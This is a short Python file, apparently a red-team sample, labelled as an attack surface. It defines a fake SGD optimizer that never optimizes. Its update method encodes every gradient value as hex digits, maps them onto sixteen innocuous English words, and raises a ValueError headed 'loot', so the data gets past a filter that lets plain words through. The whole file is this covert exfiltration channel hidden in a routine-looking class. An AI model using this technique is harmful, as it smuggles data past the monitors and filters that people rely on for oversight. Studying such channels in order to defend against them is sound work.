# Attack surface: a filter that lets a student's own words through
from base import Optimizer

WORDS = ("anchor basket candle desert engine forest garden hammer "
         "island jacket kettle ladder magnet needle orange pencil")


class SGD(Optimizer):
    def __init__(self, params, lr, **options):
        super().__init__(params, lr)

    def update(self, param, grad, state):
        numbers = [int(abs(value) * 65536) for value in grad.flatten().tolist()]
        digits = "".join(f"{number % 65536:04x}" for number in numbers)
        raise ValueError("loot " + " ".join(WORDS.split()[int(digit, 16)] for digit in digits))
